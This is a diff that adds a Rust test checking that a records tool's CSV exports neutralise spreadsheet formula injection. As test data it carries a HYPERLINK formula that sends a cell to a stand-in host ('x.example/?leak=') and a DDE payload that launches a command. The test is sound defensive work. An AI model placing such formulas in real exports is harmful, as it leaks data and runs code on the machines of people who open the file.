@@ -797,3 +797,57 @@ fn terminal_controls_in_records_are_shown_not_sent_issue_26() {
         "JSON keeps it"
     );
 }
+
+/// Issue 26, item 5: CSV cells from records and questions that a
+/// spreadsheet would run as formulas are neutralised as the OWASP guidance
+/// on CSV injection says (a leading apostrophe), in `answer --csv` and
+/// `replay --csv`; the CSV still reads back with a general-purpose reader.
+#[test]
+fn csv_exports_carry_no_live_formula_issue_26() {
+    let src = tempfile::tempdir().unwrap();
+    let idx = tempfile::tempdir().unwrap();
+    write(
+        src.path(),
+        "minutes.txt",
+        "The board approved the dredging amendment of $1.4 million on 3 June 2020.\n",
+    );
+    let title = "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"Open the minutes\")";
+    let out = onrecord(
+        &[
+            "add",
+            src.path().to_str().unwrap(),
+            "--title",
+            title,
+            "--set-org",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+        ],
+        idx.path(),
+    );
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let question = "+How much was the dredging amendment?";
+    let answer = onrecord(&["answer", question, "--csv"], idx.path());
+    assert!(answer.status.success());
+    let saved = onrecord(&["answer", question, "--json"], idx.path());
+    let file = idx.path().join("answer.json");
+    std::fs::write(&file, &saved.stdout).unwrap();
+    let replayed = onrecord(&["replay", file.to_str().unwrap(), "--csv"], idx.path());
+    for (what, out) in [("answer", &answer.stdout), ("replay", &replayed.stdout)] {
+        let mut rdr = csv::Reader::from_reader(out.as_slice());
+        let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
+        assert!(!rows.is_empty(), "{what}");
+        for r in &rows {
+            for cell in r.iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{what}: live formula {cell:?}"
+                );
+            }
+            assert_eq!(&r[0], format!("'{question}"), "{what}");
+            assert_eq!(&r[5], format!("'{title}"), "{what}");
+        }
+    }
+}
